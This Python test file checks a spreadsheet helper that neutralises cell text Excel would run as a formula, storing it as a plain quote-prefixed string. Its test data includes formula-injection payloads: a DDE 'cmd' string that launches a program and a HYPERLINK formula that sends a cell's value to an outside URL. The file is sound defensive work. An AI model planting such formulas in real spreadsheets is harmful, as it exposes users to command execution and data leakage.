import io

from openpyxl import Workbook, load_workbook

from fazhi.lib.spreadsheets import inert, runs_in_excel, workbook_bytes


def test_text_that_excel_would_run_is_a_text_cell_holding_it_unchanged():
    for text in (
        '=HYPERLINK("http://x?"&A2,"详情")',
        "=cmd|' /C calc'!A0",
        "@SUM(A1)",
        "-1+1",
        "+1",
        "\t=1",
        "\r=1",
    ):
        assert runs_in_excel(text)
        cell = inert(text)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_ordinary_values_are_unchanged():
    assert inert("学习宪法") == "学习宪法"
    assert inert(-3) == -3
    assert inert(None) is None
    assert inert("") == ""


def test_an_inert_cell_is_written_as_an_inline_string_and_reads_back_as_text():
    wb = Workbook()
    wb.active.append([inert("=1+1"), "=2+2"])
    sheet = load_workbook(io.BytesIO(workbook_bytes(wb))).active
    assert [(c.value, c.data_type) for c in sheet[1]] == [("=1+1", "s"), ("=2+2", "s")]
